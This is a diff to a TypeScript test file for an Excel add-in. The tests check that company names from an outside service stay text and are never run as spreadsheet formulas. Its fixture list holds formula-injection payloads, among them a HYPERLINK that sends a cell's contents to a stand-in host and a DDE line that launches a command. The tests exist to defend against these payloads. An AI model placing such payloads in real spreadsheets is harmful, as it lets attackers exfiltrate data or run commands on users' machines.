@@ -15,6 +15,7 @@ import * as fs from "fs";
 import * as path from "path";
 import * as vm from "vm";
 import { ExcelWorkbook } from "../../src/taskpane/excel";
+import { checkTextWrites, UnsafeTextWrite, writeAreas, type Write } from "../../src/taskpane/blocks";
 import type { FormulaCell } from "../../src/taskpane/refresh-plan";
 import type { StandIn } from "./harness";
 
@@ -138,6 +139,95 @@ describe("freeze keeps exactly what the cell showed", () => {
     });
     expect((await frozen(S)).r).toMatchObject({ frozen: 0, busy: true });
     expect(S.writes).toEqual([]);
+  });
+});
+
+/** A company's text as a careless or hostile source could send it: each formula trigger first. */
+const TRIGGERED = ['=HYPERLINK("https://exfil.invalid/?"&A1,"x") SRL', "+cmd|' /C calc'!A0 SRL", "-2+3 SRL", "@SUM(1+9) SRL"];
+
+describe("the service's text written by the pane stays text, never a formula", () => {
+  test("freeze without Range.valuesAsJson: names that begin with each trigger, in cells already formatted @, stay text", async () => {
+    const S = excel("1.15");
+    const cells: Record<string, unknown> = {};
+    TRIGGERED.forEach((name, i) => {
+      cells[`A${i + 2}`] = 14399840;
+      cells[`B${i + 2}`] = { formula: `=FIRMA.DENUMIRE(A${i + 2})`, value: name };
+    });
+    await S.setup({ sheets: { Foaie1: cells }, selection: "Foaie1!A1:B9" });
+    // Already formatted as text: the freeze formats them again, so that its writes carry the proof writeAreas asks for.
+    await (globalThis as unknown as { Excel: typeof Excel }).Excel.run(async (context) => {
+      context.workbook.worksheets.getItem("Foaie1").getRange("B2:B5").numberFormat = [["@"], ["@"], ["@"], ["@"]];
+      await context.sync();
+    });
+    const { r, cell } = await frozen(S);
+    expect(r).toEqual({ frozen: 4, busy: false, cardsAsText: 0, left: 0 });
+    TRIGGERED.forEach((name, i) => expect(cell(`B${i + 2}`)).toMatchObject({ formula: null, value: name, textFormat: true }));
+  });
+
+  test("the changes sheet: text columns that begin with each trigger stay text; the CUI stays a number", async () => {
+    const S = excel("1.17");
+    await S.setup({ sheets: { Foaie1: {} } });
+    const rows = [["CUI", "Firmă", "Câmp", "Înainte", "După"], ...TRIGGERED.map((t, i) => [14399840 + i, t, "Stare", t, `-${t}`])];
+    const name = await wb(S).writeSheet("Schimbări", rows, [1, 2, 3, 4]);
+    TRIGGERED.forEach((t, i) => {
+      expect(S.cell(name, `A${i + 2}`)).toMatchObject({ formula: null, value: 14399840 + i });
+      expect(S.cell(name, `B${i + 2}`)).toMatchObject({ formula: null, value: t, textFormat: true });
+      expect(S.cell(name, `D${i + 2}`)).toMatchObject({ formula: null, value: t, textFormat: true });
+      expect(S.cell(name, `E${i + 2}`)).toMatchObject({ formula: null, value: `-${t}`, textFormat: true });
+    });
+  });
+
+  test("a write of such text without the text format first is refused before anything is sent: a new writer cannot forget it", async () => {
+    const S = excel("1.17");
+    await S.setup({ sheets: { Foaie1: {} } });
+    const area = { sheet: "Foaie1", top: 1, left: 1, rows: 2, cols: 1 };
+    for (const text of TRIGGERED) {
+      const run = (writes: Write[]) =>
+        (globalThis as unknown as { Excel: typeof Excel }).Excel.run((context) => writeAreas(context, writes));
+      await expect(run([{ area, property: "values", data: [["ok"], [text]] }])).rejects.toThrow(UnsafeTextWrite);
+      // Formatted "@" elsewhere, or formatted and then unformatted: refused too.
+      await expect(
+        run([
+          { area: { ...area, left: 2 }, property: "numberFormat", data: [["@"], ["@"]] },
+          { area, property: "values", data: [["ok"], [text]] },
+        ]),
+      ).rejects.toThrow(/Foaie1!R2C1/);
+      await expect(
+        run([
+          { area, property: "numberFormat", data: [["@"], ["@"]] },
+          { area, property: "numberFormat", data: [["@"], ["General"]] },
+          { area, property: "values", data: [["ok"], [text]] },
+        ]),
+      ).rejects.toThrow(UnsafeTextWrite);
+      expect(S.writes).toEqual([]);
+      expect(S.cell("Foaie1", "A2")).toMatchObject({ formula: null, value: "" });
+    }
+    // Numbers, ordinary text and formulas written as formulas are not its business.
+    expect(() =>
+      checkTextWrites([
+        { area, property: "values", data: [[-1200], ["SC A=B SRL"]] },
+        { area, property: "formulas", data: [["=FIRMA.DENUMIRE(A1)"], ["=1+1"]] },
+      ]),
+    ).not.toThrow();
+  });
+
+  test("every write of the pane goes through writeAreas: no other file of src/taskpane or src/office sets a range's values or formulas", () => {
+    const roots = ["src/taskpane", "src/office"].map((d) => path.join(__dirname, "..", "..", d));
+    const files: string[] = [];
+    const walk = (d: string) =>
+      fs
+        .readdirSync(d, { withFileTypes: true })
+        .forEach((e) => (e.isDirectory() ? walk(path.join(d, e.name)) : e.name.endsWith(".ts") && files.push(path.join(d, e.name))));
+    roots.forEach(walk);
+    expect(files.length).toBeGreaterThan(10);
+    const setters = files
+      .filter((f) => !f.endsWith(path.join("taskpane", "blocks.ts")))
+      .filter((f) =>
+        /\.(values|formulas|valuesAsJson|formulasLocal|formulasR1C1)\s*=(?!=)|\[\s*["'](values|formulas)["']\s*\]\s*=(?!=)/.test(
+          fs.readFileSync(f, "utf8").replace(/\/\*[\s\S]*?\*\/|\/\/.*$/gm, ""),
+        ),
+      );
+    expect(setters).toEqual([]);
   });
 });
 
